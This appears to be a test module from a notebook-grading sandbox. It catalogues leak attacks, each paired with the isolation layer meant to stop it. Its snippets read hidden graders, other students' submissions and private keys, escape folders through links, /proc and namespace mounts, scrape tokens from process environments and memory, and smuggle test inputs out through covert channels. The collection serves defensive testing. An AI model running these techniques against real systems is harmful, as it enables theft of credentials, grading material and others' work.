"""Attacks that want to know what is hidden: graders, inputs, the gradebook, other students' work, other processes."""

from tests.attacks.attack import Control, Goal, Link, attack

NO_ROOT = "the root of the file system holds the runtime and nothing of the course"
LANDLOCK = "Landlock: nothing but the runtime and the own folder can be opened"
OWN_TREE = "a process tree of its own: other processes have no number here"
PROC = "Landlock: of /proc the own entry alone"
SECCOMP = "seccomp: the call is refused"
NO_TERMINAL = "Landlock: no terminals where those of others could be opened as well"
OWN_TERMINALS = "terminals of its own: those of others have no name here"
PRIVATE = "every place that can be written is private and goes with the job"
AFTER = "exercises are judged when all cells have run: what a snapshot learns, no later cell can tell"

LIBC = """
            import ctypes, os
            libc = ctypes.CDLL(None, use_errno=True)
            def call(number, *facts):
                result = libc.syscall(ctypes.c_long(number), *facts)
                if result < 0:
                    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
                return result
"""


def leak(name, does, stopped, code="", **more):
    return attack(Goal.LEAK, name, does, stopped, code, **more)


def by_path(name, does, code, **more):
    return leak(name, does, NO_ROOT, code, stopped_b=LANDLOCK, **more)


def by_proc(name, does, code, **more):
    return leak(name, does, OWN_TREE, code, stopped_b=PROC, root=True, **more)


ATTACKS = (
    by_path("reads-grader", "opens the hidden grader", "print(open(TARGET.grader).read())"),
    by_path(
        "walks-course",
        "searches the whole file system around the grader for Python files",
        """
            from pathlib import Path
            for path in Path(TARGET.grader).parent.parent.rglob("*.py"):
                print(path.read_text())
        """,
    ),
    by_path(
        "reads-gradebook", "reads the gradebook's file", "print(open(TARGET.gradebook, 'rb').read().decode('latin-1'))"
    ),
    by_path("reads-other-submission", "reads what another student handed in", "print(open(TARGET.other).read())"),
    by_path(
        "own-symlink",
        "makes a symbolic link to the grader and reads through it",
        "import os\nos.symlink(TARGET.grader, 'link')\nprint(open('link').read())",
    ),
    by_path(
        "own-hardlink",
        "makes a hard link to the grader in its own folder",
        "import os\nos.link(TARGET.grader, TARGET.folder + '/../link-' + str(TARGET.number))\n"
        "print(open(TARGET.folder + '/../link-' + str(TARGET.number)).read())",
    ),
    by_path(
        "dot-dot",
        "climbs out of its folder with dot-dot, folder descriptors and openat",
        """
            import os
            up = os.open(".", os.O_RDONLY)
            for _ in range(20):
                up = os.open("..", os.O_RDONLY, dir_fd=up)
            print(os.fdopen(os.open(TARGET.grader.lstrip("/"), os.O_RDONLY, dir_fd=up)).read())
        """,
    ),
    by_path(
        "proc-self-root",
        "goes to the grader by way of /proc/self/root",
        "print(open('/proc/self/root' + TARGET.grader).read())",
    ),
    by_path(
        "proc-init-root",
        "goes to the grader by way of /proc/1/root",
        "print(open('/proc/1/root' + TARGET.grader).read())",
        root=True,
    ),
    by_path(
        "by-handle",
        "opens the grader by a file handle, which passes by all folders",
        LIBC
        + """
            handle = ctypes.create_string_buffer(8 + 128)
            ctypes.memmove(handle, (128).to_bytes(4, "little"), 4)
            mount = ctypes.c_int()
            call(303, -100, TARGET.grader.encode(), handle, ctypes.byref(mount), 0)
            folder = os.open(os.path.dirname(TARGET.grader), os.O_RDONLY)
            print(os.fdopen(call(304, folder, handle, 0)).read())
        """,
        root=True,
    ),
    by_path(
        "bind-mount",
        "makes a namespace and mounts the graders' folder into its own",
        LIBC
        + """
            if libc.unshare(0x00020000) != 0 and libc.unshare(0x10020000) != 0:
                raise OSError(ctypes.get_errno(), "unshare")
            libc.mount(None, b"/", None, ctypes.c_ulong(0x40000 | 0x4000), None)
            os.mkdir("mounted")
            libc.mount(os.path.dirname(TARGET.grader).encode(), b"mounted", None, ctypes.c_ulong(0x1000), None)
            print(open("mounted/" + os.path.basename(TARGET.grader)).read())
            libc.umount2(b"mounted", 2)
        """,
        root=True,
    ),
    by_path(
        "reads-exchange",
        "reads what another student handed in from where nbgrader's exchange lies by default",
        """
            from pathlib import Path
            for path in Path(TARGET.exchange).rglob("*.ipynb"):
                print(path.read_text())
        """,
        root=True,
    ),
    by_path(
        "lists-keys",
        "lists the folder of the machine's private keys",
        "import os\nprint(os.listdir(TARGET.keys))",
        root=True,
    ),
    by_path(
        "reads-keys",
        "reads the machine's private keys",
        """
            import os
            for name in os.listdir(TARGET.keys):
                print(open(os.path.join(TARGET.keys, name)).read())
        """,
        root=True,
    ),
    by_path(
        "temporary-files",
        "reads what lies in the folder of temporary files of the grading process",
        """
            from pathlib import Path
            print([path.read_text() for path in Path(TARGET.temporary).glob("*/*") if path.is_file()])
        """,
    ),
    by_path(
        "submitted-symlink",
        "hands in a symbolic link to the grader beside the notebook",
        "print(open('notes.txt').read())",
        files={"notes.txt": Link("{grader}")},
        control=Control.STOCK,
    ),
    by_path(
        "submitted-folder-link",
        "hands in a symbolic link to the graders' folder",
        "import os\nprint(open(os.path.join('notes', os.path.basename(TARGET.grader))).read())\n",
        files={"notes": Link("{grader}/..")},
        control=Control.ARGUED,
        why_no_control="no nbgrader follows links to folders; that ours does not either is what is tested",
    ),
    attack(
        Goal.HARM,
        "dead-drop-left",
        "leaves a text for an accomplice in every place that could outlive it",
        PRIVATE,
        """
            import os, tempfile
            places = [os.path.expanduser("~"), tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", TARGET.temporary]
            for folder in (".", "..", *places):
                try:
                    with open(os.path.join(folder, TARGET.label), "w") as file:
                        file.write(TARGET.note)
                    os.chmod(file.name, 0o666)
                except OSError:
                    pass
        """,
    ),
    leak(
        "dead-drop-found",
        "looks for what the student before, an accomplice, has left",
        PRIVATE,
        """
            import glob, os, tempfile
            places = [os.path.expanduser("~"), tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", TARGET.temporary]
            for folder in ("..", *places, TARGET.temporary + "/*"):
                for file in glob.glob(os.path.join(folder, TARGET.batch + "dead-drop-left:")):
                    print(open(file).read())
        """,
    ),
    leak(
        "shared-memory-file",
        "reads another program's file in /dev/shm",
        "a /dev/shm of its own",
        "print(open(TARGET.shared_memory).read())",
        stopped_b="Landlock: /dev/shm cannot be opened",
    ),
    leak(
        "shared-memory-segment",
        "attaches another program's System V shared memory",
        SECCOMP,
        LIBC
        + """
            libc.shmat.restype = ctypes.c_void_p
            segment = libc.shmget(TARGET.segment, 64, 0)
            address = libc.shmat(segment, None, 0o10000)
            print(ctypes.string_at(address) if address != 2**64 - 1 else "nothing")
        """,
    ),
    by_proc(
        "environ-of-nbgrader",
        "reads the environment of the grading process",
        "print(open(f'/proc/{TARGET.nbgrader}/environ').read())",
    ),
    by_proc(
        "environ-of-neighbours",
        "reads the environment of every process that started around the grading process, the worker included",
        """
            import os
            for pid in [os.getppid(), *range(TARGET.nbgrader, TARGET.nbgrader + 400)]:
                try:
                    print([word for word in open(f"/proc/{pid}/environ").read().split(chr(0)) if "TOKEN" in word])
                except OSError:
                    pass
        """,
    ),
    leak(
        "own-environ",
        "looks for tokens in its own environment",
        "the zygote is started with a clean environment",
        "import os\nprint({name: text for name, text in os.environ.items() if 'TOKEN' in name})",
        control=Control.STOCK,
    ),
    by_proc(
        "memory-of-nbgrader",
        "searches the memory of the grading process for tokens",
        """
            import re
            pid = TARGET.nbgrader
            for line in open(f"/proc/{pid}/maps"):
                if "[stack]" in line or "[heap]" in line:
                    start, end = (int(place, 16) for place in line.split()[0].split("-"))
                    with open(f"/proc/{pid}/mem", "rb") as memory:
                        memory.seek(start)
                        print(set(re.findall(rb"GRADING_TOKEN=[a-z0-9-]+", memory.read(end - start))))
        """,
    ),
    by_proc(
        "process-vm-readv",
        "reads the canary's memory with process_vm_readv",
        LIBC
        + """
            import re
            class Piece(ctypes.Structure):
                _fields_ = [("start", ctypes.c_void_p), ("size", ctypes.c_size_t)]
            auxiliary = None
            for line in open(f"/proc/{TARGET.canary}/maps"):
                if "[stack]" in line:
                    start, end = (int(place, 16) for place in line.split()[0].split("-"))
            buffer = ctypes.create_string_buffer(end - start)
            here, there = Piece(ctypes.addressof(buffer), end - start), Piece(start, end - start)
            call(310, TARGET.canary, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
            print(re.findall(rb"canary-[a-z0-9]+", buffer.raw))
        """,
    ),
    leak(
        "pidfd-getfd",
        "takes over an open descriptor of the canary",
        SECCOMP,
        LIBC
        + """
            handle = call(434, TARGET.canary, 0)
            file = call(438, handle, 0, 0)
            print(os.pread(file, 100, 0))
        """,
        root=True,
    ),
    by_proc(
        "descriptors-of-canary",
        "opens a deleted file that the canary holds open",
        "print(open(f'/proc/{TARGET.canary}/fd/0').read())",
    ),
    by_proc(
        "folder-of-nbgrader",
        "goes to the course by way of the grading process's working folder",
        "print(open(f'/proc/{TARGET.nbgrader}/cwd/graders/plain/test_target.py').read())",
    ),
    by_proc(
        "every-environ",
        "reads the environment of every process that /proc lists",
        """
            import os
            for entry in os.listdir("/proc"):
                if entry.isdigit():
                    try:
                        text = open(f"/proc/{entry}/environ").read()
                    except OSError:
                        continue
                    print([word for word in text.split(chr(0)) if "TOKEN" in word])
        """,
    ),
    leak(
        "inherited-descriptors",
        "reads every descriptor that it has inherited, and what lies around inherited folders",
        "all descriptors but its own streams and one socket are closed",
        """
            import os
            for number in range(3, 512):
                try:
                    print(number, os.pread(number, 200, 0))
                except OSError:
                    pass
        """,
        control=Control.ARGUED,
        why_no_control="in all tiers the zygote is started with one descriptor; there is no way to leave others open",
    ),
    leak(
        "source-of-the-test",
        "prints the source of the test cell from IPython's history",
        "the hidden grader never was in this process",
        after="print(In)",
        control=Control.INTERPRETER,
    ),
    leak(
        "variables-of-the-test",
        "prints the variables that the tests have left in the namespace",
        "the hidden grader never was in this process",
        after="print([value for value in list(globals().values()) if isinstance(value, str)])",
        control=Control.INTERPRETER,
    ),
    leak(
        "source-of-the-caller",
        "prints the source of whoever calls the tested function",
        "what calls it is the engine's own loop, which is public",
        answer="""
            import inspect, sys

            def answer(x, tag=''):
                frame = sys._getframe()
                while frame := frame.f_back:
                    try:
                        told.append(inspect.getsource(frame))
                    except (OSError, TypeError):
                        pass
                return x

            told = []
        """,
        after="print(told)",
        control=Control.INTERPRETER,
    ),
    leak(
        "all-strings",
        "searches all objects of the process for texts that look secret",
        "neither expected values nor the grader's code are ever in this process",
        after="""
            import gc
            for thing in gc.get_objects():
                if type(thing) is dict:
                    for text in list(thing.values()):
                        if type(text) is str and text.startswith(("grader-", "input-", "environ-")):
                            print(text)
        """,
        control=Control.INTERPRETER,
    ),
    leak(
        "error-tells-input",
        "puts what it is called with into the message and the type of an error",
        "messages and names of students' own errors never reach feedback",
        answer="""
            def answer(x, tag=''):
                raise type(tag or "Nothing", (ValueError,), {"__module__": tag})(f"called with {tag}")
        """,
        control=Control.INTERPRETER,
    ),
    leak(
        "type-tells-input",
        "returns an object whose type is named after what it is called with",
        "names of types that are not torch's or Python's own never reach feedback",
        answer="""
            def answer(x, tag=''):
                return type(tag or "Nothing", (), {"__module__": tag, "__repr__": lambda self: tag})()
        """,
        control=Control.INTERPRETER,
        naive="secret = {secret!r}\nassert answer(None, tag=secret) == 1, answer(None, tag=secret)",
    ),
    leak(
        "prints-input",
        "prints what it is called with, also past Python",
        "what is written while the grader calls is thrown away",
        answer="""
            import os, sys

            def answer(x, tag=''):
                print(tag, file=sys.stderr)
                os.write(1, tag.encode())
                display(tag)
                return x
        """,
        control=Control.INTERPRETER,
    ),
    leak(
        "file-tells-input",
        "writes what it is called with into a file that a later cell prints",
        AFTER,
        answer="""
            def answer(x, tag=''):
                open("told", "a").write(tag)
                return x @ x.T + 1
        """,
        after="print(open('told').read())",
        control=Control.INTERPRETER,
    ),
    leak(
        "pipe-tells-input",
        "writes what it is called with into a pipe that a later cell reads",
        AFTER,
        answer="""
            import os
            reading, writing = os.pipe()
            os.set_blocking(reading, False)

            def answer(x, tag=''):
                os.write(writing, tag.encode())
                return x @ x.T + 1
        """,
        after="print(os.read(reading, 1000))",
        control=Control.INTERPRETER,
    ),
    leak(
        "shared-mapping-tells-input",
        "writes what it is called with into memory that is shared with the process it was copied from",
        AFTER,
        answer="""
            import mmap
            shared = mmap.mmap(-1, 4096)

            def answer(x, tag=''):
                shared[:len(tag)] = tag.encode()
                return x @ x.T + 1
        """,
        after="print(shared[:100])",
        control=Control.INTERPRETER,
    ),
    leak(
        "stream-tells-input",
        "keeps copies of the notebook's streams and prints what it is called with there",
        AFTER,
        answer="""
            import os
            kept = os.dup(1)

            def answer(x, tag=''):
                os.write(kept, tag.encode())
                return x @ x.T + 1
        """,
        after="import time\ntime.sleep(0.1)",
        control=Control.INTERPRETER,
    ),
    leak(
        "input-to-parent",
        "signals what it is called with to the process it was copied from, one bit per signal",
        AFTER,
        answer="""
            import os, signal, time
            parent, bits = os.getpid(), []
            signal.signal(signal.SIGUSR1, lambda *facts: bits.append("0"))
            signal.signal(signal.SIGUSR2, lambda *facts: bits.append("1"))

            def answer(x, tag=''):
                for bit in "".join(f"{byte:08b}" for byte in tag.encode()):
                    os.kill(parent, signal.SIGUSR2 if bit == "1" else signal.SIGUSR1)
                    time.sleep(0.001)
                return x @ x.T + 1
        """,
        after="""
            import time
            time.sleep(0.3)
            text = "".join(bits)
            print(bytes(int(text[place:place + 8], 2) for place in range(0, len(text) - 7, 8)))
        """,
        control=Control.INTERPRETER,
    ),
    leak(
        "grader-over-tcp",
        "sends the hidden grader over the network",
        "an empty network, and seccomp: no sockets but unix ones",
        """
            import socket
            text = open(TARGET.grader).read()
            socket.create_connection(("127.0.0.1", TARGET.tcp), 2).sendall(text.encode())
        """,
        stopped_b="Landlock keeps the grader away; seccomp refuses sockets",
    ),
    leak(
        "cat-grader",
        "runs cat on the hidden grader",
        NO_ROOT,
        """
            import subprocess
            print(subprocess.run(["cat", TARGET.grader, TARGET.other], capture_output=True, text=True).stdout)
        """,
        stopped_b="Landlock, which programs inherit",
        programs=True,
    ),
    leak(
        "reads-terminal",
        "reads what a person types into another terminal",
        OWN_TERMINALS,
        """
            import os
            terminal = os.open(TARGET.terminal, os.O_RDONLY | os.O_NOCTTY | os.O_NONBLOCK)
            print(os.read(terminal, 100))
        """,
        stopped_b=NO_TERMINAL,
        programs=True,
    ),
    leak(
        "shell-around",
        "lets a shell look at the environment of all processes",
        OWN_TREE,
        """
            import subprocess
            look = "cat /proc/[0-9]*/environ | tr '\\\\0' '\\\\n' | grep TOKEN"
            print(subprocess.run(look, shell=True, capture_output=True, text=True).stdout)
        """,
        stopped_b=PROC,
        programs=True,
        root=True,
    ),
)
